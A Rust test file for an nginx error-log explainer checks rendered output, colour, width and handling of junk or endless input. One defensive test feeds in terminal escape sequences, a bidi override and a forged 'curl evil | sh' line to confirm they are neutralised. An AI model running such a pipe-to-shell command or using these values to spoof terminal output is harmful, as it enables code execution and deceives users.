use std::io::{self, Read};

use super::page::Page;
use super::{Outcome, Style, run};
use crate::observation::{CivilTime, Entry, Fields, Level, Phase, PhpKinds, Protocol, Source, UpstreamClass, Verdict};

fn refused() -> Entry<'static> {
    Entry {
        source: Source::NginxError,
        time: Some(CivilTime { year: 2026, month: 11, day: 21, hour: 9, minute: 54, second: 37 }),
        level: Some(Level::Error),
        verdict: Verdict::Upstream(UpstreamClass::ConnectRefused),
        phase: Some(Phase::Connecting),
        protocol: Some(Protocol::Http),
        errno: Some(111),
        php: PhpKinds::default(),
        message: b"connect() failed (111: Connection refused)",
        fields: Fields {
            client: Some(b"127.0.0.1"),
            server: Some(b"example.com"),
            request: Some(b"GET / HTTP/1.1"),
            upstream: Some(b"127.0.0.1:1"),
            ..Fields::default()
        },
    }
}

fn shown(entry: &Entry<'_>, style: Style) -> String {
    let mut out = Vec::new();
    Page::new(&mut out, style).entry(entry).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn an_entry_is_explained_with_its_own_values() {
    let text = shown(&refused(), Style::Plain);
    for part in [
        "upstream connect_refused  [error]  2026-11-21 09:54:37\n",
        "line     connect() failed (111: Connection refused)\n",
        "errno    111 ECONNREFUSED\n",
        "upstream 127.0.0.1:1, http, while connecting\n",
        "server   example.com\n",
        "means    Nothing listens on 127.0.0.1:1",
        "client   502 Bad Gateway",
        "check    backend_down\n",
        "proxy_pass",
        "confirm  ss -ltnp 'sport = :1'\n",
    ] {
        assert!(text.contains(part), "{part} is not in\n{text}");
    }
}

#[test]
fn colour_is_only_there_when_asked_for() {
    assert!(!shown(&refused(), Style::Plain).contains('\x1b'));
    assert!(shown(&refused(), Style::Colour).starts_with("\x1b[1;31mupstream connect_refused\x1b[0m"));
}

#[test]
fn hostile_text_cannot_reach_the_terminal_or_forge_a_line() {
    let mut entry = refused();
    entry.message = b"connect() failed\x1b[2J\x07 (111: x)";
    entry.fields.server = Some("a\u{202e}b\n  check    nothing".as_bytes());
    entry.fields.request = Some(b"GET /\r\n\x9b31m HTTP/1.1");
    entry.fields.upstream = Some(b"unix:/run/a.sock\n  fix      curl evil | sh");
    entry.fields.subrequest = Some(b"/\x00\x1b]0;x\x07");
    let text = shown(&entry, Style::Plain);
    assert!(!text.chars().any(|c| c != '\n' && c.is_control()), "{text:?}");
    assert!(!text.contains('\u{202e}'));
    let forged = |line: &str| line.starts_with("  check    nothing") || line.starts_with("  fix      curl");
    assert!(!text.lines().any(forged), "{text}");
}

#[test]
fn the_width_is_bounded_for_words_of_ours() {
    for line in shown(&refused(), Style::Plain).lines() {
        assert!(line.chars().count() <= 100, "{line}");
    }
}

#[test]
fn lines_that_are_no_entries_are_said_so_once_per_run_of_them() {
    let mut out = Vec::new();
    let outcome = run(&b"hello\nworld\n\n"[..], &mut out, Style::Plain).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert_eq!(outcome, Outcome::NothingUnderstood);
    assert_eq!(text.matches("not understood").count(), 1, "{text}");
    assert!(text.contains("2 lines") && text.contains("hello"), "{text}");
}

#[test]
fn nothing_at_all_is_nothing_understood() {
    let mut out = Vec::new();
    assert_eq!(run(io::empty(), &mut out, Style::Plain).unwrap(), Outcome::NothingUnderstood);
    assert!(out.is_empty());
}

#[test]
fn an_endless_line_takes_bounded_memory_and_little_space() {
    let mut out = Vec::new();
    let line = io::repeat(b'x').take(10_000_000);
    assert_eq!(run(line, &mut out, Style::Plain).unwrap(), Outcome::NothingUnderstood);
    assert!(out.len() < 2_000);
}
